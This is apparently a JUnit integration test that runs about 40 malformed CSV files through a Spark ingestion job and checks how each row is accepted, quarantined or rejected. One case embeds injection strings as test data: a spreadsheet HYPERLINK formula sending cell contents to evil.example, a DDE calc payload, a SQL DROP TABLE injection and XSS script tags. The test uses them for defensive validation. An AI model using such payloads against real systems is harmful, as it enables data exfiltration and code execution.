package com.c360.glue.silver;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowable;
import static org.junit.jupiter.api.DynamicTest.dynamicTest;

import com.c360.contract.BronzeToSilverArguments;
import com.c360.contract.JobArguments;
import com.c360.contract.LakeLayout;
import com.c360.contract.TableCatalog;
import com.c360.contract.UploadOrder;
import com.c360.glue.Fixtures;
import com.c360.glue.InMemoryJobMetrics;
import com.c360.glue.SparkTestBase;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.math.BigDecimal;
import java.net.URI;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.HashMap;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.stream.Collectors;
import java.util.stream.LongStream;
import java.util.stream.Stream;
import org.apache.spark.sql.Row;
import org.apache.spark.sql.functions;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.TestFactory;
import org.junit.jupiter.api.io.TempDir;

/**
 * Issue 11, item 6: named bad inputs through the real bronze→silver job, each against an outcome worked out by hand
 * from input contract v1 (README). Every case is one job run on a lake shared by the class; a case's rows are told
 * apart by its bronze key and run.
 */
class BadInputCorpusIT extends SparkTestBase {
    private static final LocalDate DAY = LocalDate.parse("2026-02-10");
    private static final String SILVER = TableCatalog.local().silverTable();
    private static final String HEADER =
            "customer_id,first_name,last_name,email,purchase_id,purchase_date,amount,currency";
    private static final String VALID = "valid";
    private static final String COLLAPSED = "collapsed";
    private static final String SHUFFLE_PARTITIONS = "spark.sql.shuffle.partitions";
    private static final byte[] UTF8_BOM = {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF};
    /** Each run uploads after the previous one, so its valid rows always win silver's merge over an earlier case's. */
    private static final AtomicInteger UPLOADS = new AtomicInteger();

    @TempDir
    static Path lake;

    /** What a case must do: fail the whole file, or give each data line its outcome. */
    sealed interface Expected permits FileBreak, Rows {
    }

    /** The typed error, and words its message must contain so that an operator knows what to fix. */
    record FileBreak(Class<? extends BronzeFileRejectedException> type, List<String> messageNames) implements Expected {
    }

    /**
     * {@code outcomes}: source line → "valid", "collapsed" or the quarantine reason code. {@code stored}: line →
     * [full_name, email] as silver must hold them; {@code aud}: line → silver's amount_aud.
     */
    record Rows(Map<Long, String> outcomes, List<String> ignoredColumns, Map<Long, List<String>> stored,
            Map<Long, String> aud) implements Expected {

        Rows ignoring(String... columns) {
            return new Rows(outcomes, List.of(columns), stored, aud);
        }

        Rows storing(long line, String fullName, String email) {
            Map<Long, List<String>> more = new HashMap<>(stored);
            more.put(line, Arrays.asList(fullName, email));
            return new Rows(outcomes, ignoredColumns, more, aud);
        }

        Rows inAud(long line, String amountAud) {
            Map<Long, String> more = new HashMap<>(aud);
            more.put(line, amountAud);
            return new Rows(outcomes, ignoredColumns, stored, more);
        }
    }

    record Case(String name, byte[] bytes, Expected expected) {
        @Override
        public String toString() {
            return name;
        }
    }

    private static String shufflePartitions;

    @BeforeAll
    static void referenceTableAndSilver() throws IOException {
        // Each case is a few dozen rows: one shuffle partition spares 40 runs most of their task overhead.
        shufflePartitions = spark.conf().get(SHUFFLE_PARTITIONS);
        spark.conf().set(SHUFFLE_PARTITIONS, "1");
        Files.createDirectories(lake.resolve("reference"));
        Files.copy(Fixtures.path("fx/fx_rates_test.csv"), lake.resolve("reference/fx.csv"));
        // Silver exists before the first case, so a file-level break can be shown to commit nothing to it.
        write("corpus/warm-up.csv", utf8(HEADER, ok(1)));
        runJob("corpus/warm-up.csv");
    }

    @AfterAll
    static void restoreShufflePartitions() {
        spark.conf().set(SHUFFLE_PARTITIONS, shufflePartitions);
    }

    @TestFactory
    Stream<DynamicTest> badInputCorpus() {
        List<Case> cases = cases();
        assertThat(cases).as("issue 11 asks for at least 30 named cases").hasSizeGreaterThanOrEqualTo(30);
        assertThat(cases.stream().map(Case::name).distinct()).hasSameSizeAs(cases);
        return cases.stream().map(c -> dynamicTest(c.name(), () -> check(c)));
    }

    static List<Case> cases() {
        List<Case> cases = new ArrayList<>();
        // --- Encoding, line endings, empty files -------------------------------------------------------------------
        cases.add(new Case("empty_file", new byte[0], fails(EmptyBronzeFileException.class, "is empty")));
        cases.add(new Case("bom_only", UTF8_BOM, fails(EmptyBronzeFileException.class, "is empty")));
        cases.add(new Case("blank_lines_only", utf8("", "   ", "\r"), fails(EmptyBronzeFileException.class,
                "is empty")));
        cases.add(new Case("header_only", utf8(HEADER), rows()));
        cases.add(new Case("header_only_without_newline", HEADER.getBytes(StandardCharsets.UTF_8), rows()));
        cases.add(new Case("utf8_bom", concat(UTF8_BOM, utf8(HEADER, ok(1), ok(2))), rows("2 valid", "3 valid")));
        cases.add(new Case("crlf_line_endings", ascii(String.join("\r\n", HEADER, ok(1), ok(2), "")),
                rows("2 valid", "3 valid")));
        cases.add(new Case("cr_only_line_endings", ascii(String.join("\r", HEADER, ok(1), ok(2), "")),
                rows("2 valid", "3 valid")));
        // Line 3 is blank and skipped: it is no row, and the lines after it keep their physical numbers.
        cases.add(new Case("mixed_line_endings_and_blank_line",
                ascii(HEADER + "\r\n" + ok(1) + "\n\r\n" + ok(2) + "\r" + ok(3)),
                rows("2 valid", "4 valid", "5 valid")));
        cases.add(new Case("latin1_bytes", concat(utf8(HEADER, ok(1)),
                "1,Jos\u00e9,Lee,j@x.com,2,2026-01-10,1.00,AUD\n".getBytes(StandardCharsets.ISO_8859_1)),
                fails(UndecodableBronzeFileException.class, "not valid UTF-8")));
        cases.add(new Case("utf16le_with_bom", encoded(StandardCharsets.UTF_16LE, "\uFEFF", HEADER, ok(1)),
                fails(UndecodableBronzeFileException.class, "not valid UTF-8")));
        cases.add(new Case("utf16be_with_bom", encoded(StandardCharsets.UTF_16BE, "\uFEFF", HEADER, ok(1)),
                fails(UndecodableBronzeFileException.class, "not valid UTF-8")));
        // Without a BOM, UTF-16 of ASCII is valid UTF-8 with a NUL beside every character: the header names nothing.
        cases.add(new Case("utf16le_without_bom", encoded(StandardCharsets.UTF_16LE, "", HEADER, ok(1)),
                fails(MissingRequiredColumnException.class, "[" + String.join(", ", BronzeCsvReader.CONTRACT_COLUMNS)
                        + "]", "UTF-16")));
        cases.add(new Case("utf16be_without_bom", encoded(StandardCharsets.UTF_16BE, "", HEADER, ok(1)),
                fails(MissingRequiredColumnException.class, "[" + String.join(", ", BronzeCsvReader.CONTRACT_COLUMNS)
                        + "]", "UTF-16")));
        cases.add(new Case("nul_bytes_in_fields", utf8(HEADER,
                        "1,A\u0000n,Lee,a@x.com,1,2026-01-10,1.00,AUD",
                        "1,Ann,Lee,a@x.com\u0000,2,2026-01-10,1.00,AUD",
                        "1,Ann,Lee,a@x.com,3,2026-01-10,1.00\u0000,AUD",
                        ok(4)),
                rows("2 invalid_character", "3 invalid_character", "4 invalid_character", "5 valid")));
        cases.add(new Case("very_long_lines", utf8(HEADER,
                        "1," + "N".repeat(2_000_000) + ",Lee,a@x.com,1,2026-01-10,1.00,AUD",
                        ok(2) + ",x".repeat(20_000),
                        "1,Ann,Lee," + "e".repeat(250) + "@x.com,3,2026-01-10,1.00,AUD",
                        ok(4)),
                rows("2 field_too_long", "3 malformed_row", "4 field_too_long", "5 valid")));

        // --- CSV structure -----------------------------------------------------------------------------------------
        cases.add(new Case("quoted_commas_quotes_and_newlines", utf8(HEADER,
                        "1,\"O'Brien, Jr.\",Pat,pat@x.com,1,2026-01-10,1.00,AUD",
                        "2,\"Ann\",\"Lee", "Smith\",ann@x.com,2,2026-01-10,1.00,AUD",
                        ok(3),
                        "4,\"Say \"\"hi\"\"\",Bo,bo@x.com,4,2026-01-10,1.00,AUD"),
                rows("2 valid", "3 valid", "5 valid", "6 valid")
                        .storing(2, "O'Brien, Jr. Pat", "pat@x.com")
                        .storing(3, "Ann Lee\nSmith", "ann@x.com")
                        .storing(6, "Say \"hi\" Bo", "bo@x.com")));
        // The quote opened on line 3 swallows the rest of the file: no later row boundary can be trusted.
        cases.add(new Case("unterminated_quote", utf8(HEADER, ok(1),
                        "2,\"Ann,Lee,a@x.com,2,2026-01-10,1.00,AUD", ok(3)),
                fails(MalformedCsvException.class, "not valid RFC 4180 CSV", "near line 3")));
        cases.add(new Case("text_after_closing_quote", utf8(HEADER, ok(1),
                        "2,\"Ann\"x,Lee,a@x.com,2,2026-01-10,1.00,AUD"),
                fails(MalformedCsvException.class, "not valid RFC 4180 CSV", "near line 3")));
        cases.add(new Case("semicolon_delimiter", utf8(HEADER.replace(',', ';'), ok(1).replace(',', ';')),
                fails(MissingRequiredColumnException.class,
                        "[" + String.join(", ", BronzeCsvReader.CONTRACT_COLUMNS) + "]", "header has 1 column(s)",
                        "delimited by ';'")));
        cases.add(new Case("tab_delimiter", utf8(HEADER.replace(',', '\t'), ok(1).replace(',', '\t')),
                fails(MissingRequiredColumnException.class,
                        "[" + String.join(", ", BronzeCsvReader.CONTRACT_COLUMNS) + "]", "header has 1 column(s)",
                        "delimited by tab")));
        cases.add(new Case("field_count_differs_from_header", utf8(HEADER, ok(1) + ",", "1,Ann,Lee,a@x.com,2,2026-01-10,1.00",
                        ok(3)),
                rows("2 malformed_row", "3 malformed_row", "4 valid")));

        // --- Columns -----------------------------------------------------------------------------------------------
        cases.add(new Case("missing_column", utf8(HEADER.replace(",currency", ""), "1,Ann,Lee,a@x.com,1,2026-01-10,1.00"),
                fails(MissingRequiredColumnException.class, "[currency]", "header has 7 column(s)")));
        cases.add(new Case("renamed_column", utf8(HEADER.replace("email", "e_mail"), ok(1)),
                fails(MissingRequiredColumnException.class, "[email]", "e_mail")));
        cases.add(new Case("no_header_line", utf8(ok(1), ok(2)),
                fails(MissingRequiredColumnException.class, "[" + String.join(", ", BronzeCsvReader.CONTRACT_COLUMNS)
                        + "]", "header has 8 column(s)")));
        cases.add(new Case("duplicated_column", utf8(HEADER + ",amount", ok(1) + ",2.00"),
                fails(DuplicateColumnException.class, "'amount'", "more than once")));
        cases.add(new Case("duplicated_column_in_other_case", utf8(HEADER + ",E-mail,EMAIL", ok(1) + ",x,y"),
                fails(DuplicateColumnException.class, "'email'", "more than once")));
        cases.add(new Case("extra_columns", utf8(HEADER + ",store,Notes", ok(1) + ",Sydney,", ok(2) + ",,n"),
                rows("2 valid", "3 valid").ignoring("store", "Notes")));
        cases.add(new Case("reordered_spaced_upper_case_header",
                utf8(" CURRENCY , Amount,purchase_date,purchase_id,Email,last_name,first_name,customer_id",
                        "usd,10.00,2026-01-10,1,ANN@X.COM,Lee,Ann,7"),
                rows("2 valid").storing(2, "Ann Lee", "ann@x.com").inAud(2, "15.00")));

        // --- Types and dates ---------------------------------------------------------------------------------------
        cases.add(new Case("wrong_types", utf8(HEADER,
                        "abc,Ann,Lee,a@x.com,1,2026-01-10,1.00,AUD",
                        "-5,Ann,Lee,a@x.com,2,2026-01-10,1.00,AUD",
                        "17850.0,Ann,Lee,a@x.com,3,2026-01-10,1.00,AUD",
                        "1234567890123456789,Ann,Lee,a@x.com,4,2026-01-10,1.00,AUD",
                        "1,Ann,Lee,a@x.com,12.5,2026-01-10,1.00,AUD",
                        "1,Ann,Lee,a@x.com,1e3,2026-01-10,1.00,AUD",
                        "1,Ann,Lee,a@x.com,8,2026-01-10,ten,AUD",
                        "1,Ann,Lee,a@x.com,9,yesterday,1.00,AUD",
                        "1,Ann,Lee,a@x.com,10,2026-01-10,1.00,10",
                        "\u0661,Ann,Lee,a@x.com,11,2026-01-10,1.00,AUD",
                        ok(12)),
                rows("2 non_numeric_customer_id", "3 non_numeric_customer_id", "4 non_numeric_customer_id",
                        "5 non_numeric_customer_id", "6 non_numeric_purchase_id", "7 non_numeric_purchase_id",
                        "8 non_numeric_amount", "9 bad_date", "10 unknown_currency", "11 non_numeric_customer_id",
                        "12 valid")));
        cases.add(new Case("impossible_dates", utf8(HEADER,
                        dated(1, "2026-02-30"), dated(2, "2025-02-29"), dated(3, "2024-02-29"), dated(4, "2026-13-01"),
                        dated(5, "2026-00-10"), dated(6, "30/01/2026"), dated(7, "2026-1-5"),
                        dated(8, "2026-02-03T25:00:00"), dated(9, "1899-12-31"), dated(10, "2026-02-03T23:30:00-05:00"),
                        dated(11, "20260110")),
                rows("2 bad_date", "3 bad_date", "4 valid", "5 bad_date", "6 bad_date", "7 bad_date", "8 bad_date",
                        "9 bad_date", "10 date_out_of_range", "11 valid", "12 bad_date")));
        // Contract v1 accepts dates up to 9999-12-31, however far after the upload (see the report's gap list).
        cases.add(new Case("far_future_dates", utf8(HEADER,
                        dated(1, "2999-06-01"), dated(2, "9999-12-31"), dated(3, "+10000-01-01"), dated(4, "10000-01-01"),
                        "1,Ann,Lee,a@x.com,5,2999-06-01,10.00,USD"),
                rows("2 valid", "3 valid", "4 date_out_of_range", "5 bad_date", "6 valid").inAud(6, "16.00")));

        // --- Amounts -----------------------------------------------------------------------------------------------
        cases.add(new Case("negative_zero_and_huge_amounts", utf8(HEADER,
                        amount(1, "-5"), amount(2, "-0.01"), amount(3, "0"), amount(4, "0.00"), amount(5, "-0"),
                        amount(6, "999999999999.999999"), amount(7, "1000000000000"), amount(8, "0.0000001"),
                        amount(9, "+10.50"), amount(10, ".5"), amount(11, "5."),
                        amount(12, "99999999999999999999999999999999999999")),
                rows("2 negative_amount", "3 negative_amount", "4 valid", "5 valid", "6 valid", "7 valid",
                        "8 amount_out_of_range", "9 amount_out_of_range", "10 valid", "11 valid", "12 valid",
                        "13 amount_out_of_range")
                        .inAud(4, "0.00").inAud(6, "0.00").inAud(7, "1000000000000.00").inAud(10, "10.50")
                        .inAud(11, "0.50").inAud(12, "5.00")));
        cases.add(new Case("amounts_not_plain_decimals", utf8(HEADER,
                        amount(1, "NaN"), amount(2, "Infinity"), amount(3, "1e3"), amount(4, "1E-2"),
                        amount(5, "\"1,000.00\""), amount(6, "1 000"), amount(7, "\"1.000,50\""), amount(8, "$10"),
                        amount(9, "10 AUD"), amount(10, "A$10"), amount(11, "\u20ac5"), amount(12, "10\u20ac"),
                        amount(13, "0x1A"), amount(14, "\u0661\u0660"), amount(15, "(10.00)"), amount(16, "10-")),
                rows(lines(2, 17, "non_numeric_amount"))));

        // --- Currencies and duplicates -----------------------------------------------------------------------------
        cases.add(new Case("currencies", utf8(HEADER,
                        currency(1, "usd"), currency(2, "Usd"), currency(3, " eur "), currency(4, "XYZ"),
                        currency(5, "AU"), currency(6, "AUDD"), currency(7, "US$"), currency(8, "GBP"),
                        currency(9, "BTC"), currency(10, "\u20ac"), currency(11, "aud")),
                rows("2 valid", "3 valid", "4 valid", "5 unknown_currency", "6 unknown_currency", "7 unknown_currency",
                        "8 unknown_currency", "9 no_fx_rate", "10 unknown_currency", "11 unknown_currency", "12 valid")
                        .inAud(2, "15.00").inAud(3, "15.00").inAud(4, "16.50").inAud(12, "10.00")));
        cases.add(new Case("exact_duplicates", utf8(HEADER,
                        ok(1), ok(1), ok(2),
                        "1, Ann ,Lee,ANN@X.COM,2,2026-01-10T09:00:00,10.0,aud",
                        "1,Ann,Lee,ann@x.com,0003,2026-01-10,10.00,AUD", ok(3),
                        "1,Ann,Lee,a@x.com,4,2026-01-10,ten,AUD", "1,Ann,Lee,a@x.com,4,2026-01-10,ten,AUD"),
                rows("2 valid", "3 collapsed", "4 valid", "5 collapsed", "6 valid", "7 collapsed",
                        "8 non_numeric_amount", "9 collapsed")));
        cases.add(new Case("conflicting_duplicates", utf8(HEADER,
                        ok(1), amount(1, "11.00"),
                        ok(2), ok(2), amount(2, "12.00"),
                        ok(3), amount(3, "ten"),
                        ok(4)),
                rows("2 conflicting_duplicate", "3 conflicting_duplicate", "4 conflicting_duplicate",
                        "5 conflicting_duplicate", "6 conflicting_duplicate", "7 conflicting_duplicate",
                        "8 conflicting_duplicate", "9 valid")));

        // --- Injection strings and whitespace ----------------------------------------------------------------------
        // Silver keeps what was ingested; neutralising for spreadsheets is the job of what writes for people.
        cases.add(new Case("injection_strings_in_names_and_emails", utf8(HEADER,
                        "1,\"=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"click\"\")\",Lee,=1+1@x.com,1,2026-01-10,1.00,AUD",
                        "1,+cmd|' /C calc'!A0,-1+1,@SUM(1+1)@x.com,2,2026-01-10,1.00,AUD",
                        "1,Robert'); DROP TABLE purchases;--,Lee,'or'1'='1@x.com,3,2026-01-10,1.00,AUD",
                        "1,<script>alert(1)</script>,<b>Lee</b>,\"<img src=x onerror=alert(1)>@X.com\",4,2026-01-10,1.00,AUD"),
                rows("2 valid", "3 valid", "4 valid", "5 valid")
                        .storing(2, "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"click\") Lee", "=1+1@x.com")
                        .storing(3, "+cmd|' /C calc'!A0 -1+1", "@sum(1+1)@x.com")
                        .storing(4, "Robert'); DROP TABLE purchases;-- Lee", "'or'1'='1@x.com")
                        .storing(5, "<script>alert(1)</script> <b>Lee</b>", "<img src=x onerror=alert(1)>@x.com")));
        cases.add(new Case("whitespace_only_fields", utf8(HEADER,
                        "   ,Ann,Lee,a@x.com,1,2026-01-10,1.00,AUD",
                        "1,Ann,Lee,a@x.com,\t,2026-01-10,1.00,AUD",
                        "1,Ann,Lee,a@x.com,3,\"   \",1.00,AUD",
                        "1,Ann,Lee,a@x.com,4,2026-01-10, ,AUD",
                        "1,Ann,Lee,a@x.com,5,2026-01-10,1.00,   ",
                        "1,  ,\t,  ,6,2026-01-10,1.00,AUD",
                        "\u00a0,Ann,Lee,a@x.com,7,2026-01-10,1.00,AUD"),
                rows("2 missing_customer_id", "3 missing_purchase_id", "4 missing_purchase_date", "5 missing_amount",
                        "6 missing_currency", "7 valid", "8 non_numeric_customer_id")
                        .storing(7, null, null)));
        cases.add(new Case("surrounding_whitespace_in_values", utf8(HEADER,
                        " 1 , Ann , Lee , ANN@X.COM , 1 , 2026-01-10 , 10.00 , AUD "),
                rows("2 valid").storing(2, "Ann Lee", "ann@x.com").inAud(2, "10.00")));
        return cases;
    }

    private void check(Case c) throws IOException {
        String key = "corpus/" + c.name() + ".csv";
        write(key, c.bytes());
        String fileId = LakeLayout.sourceFileId(key);
        Path quarantine = local(LakeLayout.sourceFilePartition(uri("quarantine"), DAY, fileId));
        Path audit = local(LakeLayout.auditRecord(uri("audit"), DAY, fileId));
        long snapshotsBefore = silverSnapshots();

        if (c.expected() instanceof FileBreak fileBreak) {
            Throwable failure = catchThrowable(() -> runJob(key));
            assertThat(failure).isExactlyInstanceOf(fileBreak.type());
            assertThat(failure.getMessage()).contains(key).contains(fileBreak.messageNames());
            assertThat(silverSnapshots()).as("silver commits").isEqualTo(snapshotsBefore);
            assertThat(quarantine).doesNotExist();
            assertThat(audit).doesNotExist();
            return;
        }
        Rows expected = (Rows) c.expected();
        IngestionAudit returned = runJob(key);

        Map<String, Long> byReason = expected.outcomes().values().stream()
                .filter(o -> !o.equals(VALID) && !o.equals(COLLAPSED))
                .collect(Collectors.groupingBy(o -> o, Collectors.counting()));
        long valid = count(expected, VALID);
        long collapsed = count(expected, COLLAPSED);
        long quarantined = byReason.values().stream().mapToLong(Long::longValue).sum();
        RowAccounting accounting = IngestionAudit.read(audit.toUri().toString(),
                spark.sparkContext().hadoopConfiguration()).accounting();
        assertThat(accounting).isEqualTo(returned.accounting());
        assertThat(accounting.rowsRead()).as("rows read").isEqualTo(expected.outcomes().size())
                .isEqualTo(accounting.rowsValid() + accounting.rowsQuarantined() + accounting.duplicatesCollapsed());
        assertThat(accounting).isEqualTo(new RowAccounting(expected.outcomes().size(), valid, quarantined, collapsed,
                byReason));
        assertThat(returned.ignoredColumns()).isEqualTo(expected.ignoredColumns());

        List<Row> quarantineRows = spark.read().parquet(quarantine.toUri().toString()).collectAsList();
        assertThat(quarantineRows).allSatisfy(row -> {
            assertThat(row.<String>getAs("reason")).isNotBlank();
            assertThat(row.<String>getAs("reason_detail")).isNotBlank();
        });
        Map<Long, String> outcomes = new HashMap<>();
        quarantineRows.forEach(row -> outcomes.put(row.getAs("source_line"), row.getAs("reason")));
        List<Row> silver = spark.table(SILVER).filter(functions.col("source_key").equalTo(key)
                .and(functions.col("run_id").equalTo(runId(key)))).collectAsList();
        for (Row row : silver) {
            assertThat(outcomes.put(row.getAs("source_line"), VALID)).as("line both valid and quarantined").isNull();
        }
        Map<Long, String> expectedWithoutCollapsed = new LinkedHashMap<>(expected.outcomes());
        expectedWithoutCollapsed.values().removeIf(COLLAPSED::equals);
        assertThat(outcomes).as("outcome by source line").isEqualTo(expectedWithoutCollapsed);

        Map<Long, Row> silverByLine = silver.stream().collect(Collectors.toMap(r -> r.getAs("source_line"), r -> r));
        expected.stored().forEach((line, nameAndEmail) -> {
            assertThat(silverByLine.get(line).<String>getAs("full_name")).as("full_name of line %d", line)
                    .isEqualTo(nameAndEmail.get(0));
            assertThat(silverByLine.get(line).<String>getAs("email")).as("email of line %d", line)
                    .isEqualTo(nameAndEmail.get(1));
        });
        expected.aud().forEach((line, aud) -> assertThat(silverByLine.get(line).<BigDecimal>getAs("amount_aud"))
                .as("amount_aud of line %d", line).isEqualByComparingTo(aud));
    }

    private static long count(Rows rows, String outcome) {
        return rows.outcomes().values().stream().filter(outcome::equals).count();
    }

    // --- Building cases --------------------------------------------------------------------------------------------

    /** A valid row: customer 1, purchase {@code purchase}, 10.00 AUD on 2026-01-10. */
    private static String ok(long purchase) {
        return "1,Ann,Lee,ann@x.com," + purchase + ",2026-01-10,10.00,AUD";
    }

    private static String dated(long purchase, String date) {
        return "1,Ann,Lee,ann@x.com," + purchase + "," + date + ",10.00,AUD";
    }

    /** Each purchase its own customer, so no customer's file total comes near the limit. */
    private static String amount(long purchase, String amount) {
        return purchase + ",Ann,Lee,ann@x.com," + purchase + ",2026-01-10," + amount + ",AUD";
    }

    private static String currency(long purchase, String currency) {
        return "1,Ann,Lee,ann@x.com," + purchase + ",2026-01-10,10.00," + currency;
    }

    private static FileBreak fails(Class<? extends BronzeFileRejectedException> type, String... messageNames) {
        return new FileBreak(type, List.of(messageNames));
    }

    /** Outcomes written "LINE OUTCOME", e.g. "3 bad_date". */
    private static Rows rows(String... lineOutcomes) {
        Map<Long, String> outcomes = new LinkedHashMap<>();
        for (String lineOutcome : lineOutcomes) {
            String[] parts = lineOutcome.split(" ");
            assertThat(outcomes.put(Long.parseLong(parts[0]), parts[1])).as("line %s twice", parts[0]).isNull();
        }
        return new Rows(outcomes, List.of(), Map.of(), Map.of());
    }

    /** The same outcome for lines first..last. */
    private static String[] lines(long first, long last, String outcome) {
        return LongStream.rangeClosed(first, last).mapToObj(line -> line + " " + outcome).toArray(String[]::new);
    }

    /** Lines joined by LF, with a final LF. */
    private static byte[] utf8(String... lines) {
        return (String.join("\n", lines) + "\n").getBytes(StandardCharsets.UTF_8);
    }

    private static byte[] ascii(String text) {
        return text.getBytes(StandardCharsets.US_ASCII);
    }

    private static byte[] encoded(Charset charset, String prefix, String... lines) {
        return (prefix + String.join("\n", lines) + "\n").getBytes(charset);
    }

    private static byte[] concat(byte[]... parts) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        for (byte[] part : parts) {
            out.writeBytes(part);
        }
        return out.toByteArray();
    }

    // --- Running the job -------------------------------------------------------------------------------------------

    private static void write(String key, byte[] bytes) throws IOException {
        Path target = lake.resolve("bronze").resolve(key);
        Files.createDirectories(target.getParent());
        Files.write(target, bytes);
    }

    private static IngestionAudit runJob(String key) {
        String order = UploadOrder.of(Instant.parse("2026-02-10T08:00:00Z").plusSeconds(UPLOADS.incrementAndGet()),
                "0A");
        return BronzeToSilverJob.run(spark, BronzeToSilverArguments.from(JobArguments.of(Map.ofEntries(
                Map.entry("source_bucket", "bronze-bucket"),
                Map.entry("source_key", key),
                Map.entry("source_version", "v1"),
                Map.entry("ingestion_date", DAY.toString()),
                Map.entry("run_id", runId(key)),
                Map.entry("bronze_root", uri("bronze")),
                Map.entry("silver_root", uri("silver")),
                Map.entry("quarantine_root", uri("quarantine")),
                Map.entry("audit_root", uri("audit")),
                Map.entry("fx_path", lake.resolve("reference/fx.csv").toUri().toString()),
                Map.entry("feeds_path", Fixtures.shippedFeedsUri()),
                Map.entry("upload_order", order),
                Map.entry("catalog", "hadoop"),
                Map.entry("catalog_database", TableCatalog.LOCAL_DATABASE)))), InMemoryJobMetrics.recording());
    }

    private static String runId(String key) {
        return "run-" + key;
    }

    private static String uri(String layer) {
        return lake.resolve(layer).toUri().toString();
    }

    private static Path local(String uri) {
        return Path.of(URI.create(uri));
    }

    private static long silverSnapshots() {
        return spark.table(SILVER + ".snapshots").count();
    }
}
